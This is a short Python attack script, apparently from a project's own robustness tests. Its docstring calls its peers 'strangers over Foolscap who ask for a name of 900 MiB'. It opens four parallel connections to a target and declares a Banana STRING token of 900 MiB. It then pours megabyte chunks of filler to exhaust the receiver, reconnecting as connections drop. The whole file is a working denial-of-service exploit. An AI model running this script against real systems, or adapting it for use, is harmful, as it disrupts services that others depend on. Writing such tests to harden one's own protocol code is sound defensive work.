"""Strangers over Foolscap who ask for a name of 900 MiB."""

from __future__ import annotations

from misc.attack.foolscap import Peer, ask_name, in_parallel, pour, string, token
from misc.attack.target import Target, from_command_line
from pipegrid.wire.banana_receiver import STRING

CONNECTIONS = 4
NAME_BYTES = 900 << 20
MARK = b"?name?"


def attack(target: Target) -> None:
    """Ask, on new connections as the old ones are cut."""
    in_parallel(target, CONNECTIONS, ask)


def ask(target: Target) -> None:
    """Ask once."""
    with Peer(target).socket as connection:
        head, _, _ = ask_name(MARK).partition(string(MARK))
        connection.sendall(head + token(STRING, NAME_BYTES))
        pour(target, connection, b"x" * (1 << 20), NAME_BYTES)


if __name__ == "__main__":
    attack(from_command_line(__doc__))
